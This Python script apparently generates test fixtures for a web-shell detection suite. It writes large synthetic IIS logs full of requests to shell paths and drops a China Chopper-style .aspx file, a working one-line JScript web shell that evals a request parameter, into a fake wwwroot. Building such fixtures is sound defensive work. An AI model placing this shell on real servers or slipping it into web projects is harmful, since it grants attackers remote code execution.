#!/usr/bin/env python3
"""make_scale.py OUT KIND N - evidence trees for the hostile suite's scale
tests (scale_tests.sh), written at test time.

KIND
  drop   an IIS log of N requests, all to a web shell in a drop folder
         (/aspnet_client/x.aspx: every one is a log finding): the even rows
         from one client, the odd rows from up to 32,768 others (1M rows
         give 32,768), so the story meets more attackers than its cap
  disk   a China Chopper shell on disk outside the drop folders
         (inetpub/wwwroot/app/iisstart2.aspx) and an IIS log with N
         requests to it among N ordinary ones (2N rows)
  deep   a shell 50 folders deep (/a/a/.../x.aspx) and 20 MB of lines
         whose URL is /a/a/a... but never the shell's
"""
import os
import sys

HEADER = (
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Version: 1.0\n"
    "#Date: 2021-03-03 00:00:00\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
)
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n'


def row(sec, uri, ip, status=200, query="-"):
    h, m, s = (sec // 3600) % 24, (sec // 60) % 60, sec % 60
    return (
        f"2021-03-03 {h:02d}:{m:02d}:{s:02d} 192.0.2.10 POST {uri} {query} 443 - {ip} "
        f"Mozilla/5.0 - {status} 0 0 15\n"
    )


def main():
    out, kind, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    logdir = os.path.join(out, "inetpub", "logs", "LogFiles", "W3SVC1")
    os.makedirs(logdir, exist_ok=True)
    web = os.path.join(out, "inetpub", "wwwroot")
    os.makedirs(web, exist_ok=True)
    with open(os.path.join(logdir, "u_ex210303.log"), "w") as f:
        f.write(HEADER)
        buf = []
        if kind == "drop":
            for i in range(n):
                ip = f"203.0.{(i % (n // 4 or 1)) // 256 % 256}.{i % 256}" if i % 2 else "198.51.100.7"
                buf.append(row(i * 86400 // n, "/aspnet_client/x.aspx", ip))
                if len(buf) >= 10000:
                    f.write("".join(buf))
                    buf = []
        elif kind == "disk":
            app = os.path.join(web, "app")
            os.makedirs(app, exist_ok=True)
            with open(os.path.join(app, "iisstart2.aspx"), "w") as s:
                s.write(SHELL)
            for i in range(n):
                sec = i * 86400 // n
                buf.append(row(sec, "/app/iisstart2.aspx", "198.51.100.7"))
                buf.append(row(sec, "/owa/", "192.0.2.44", 302))
                if len(buf) >= 10000:
                    f.write("".join(buf))
                    buf = []
        elif kind == "deep":
            deep = os.path.join(web, *(["a"] * 50))
            os.makedirs(deep, exist_ok=True)
            with open(os.path.join(deep, "x.aspx"), "w") as s:
                s.write(SHELL)
            long_uri = "/a" * 2000 + "/y.aspx"
            total = 0
            i = 0
            while total < 20 * 1024 * 1024:
                r = row(i % 86400, long_uri, "198.51.100.7")
                buf.append(r)
                total += len(r)
                i += 1
                if len(buf) >= 1000:
                    f.write("".join(buf))
                    buf = []
        f.write("".join(buf))


if __name__ == "__main__":
    main()
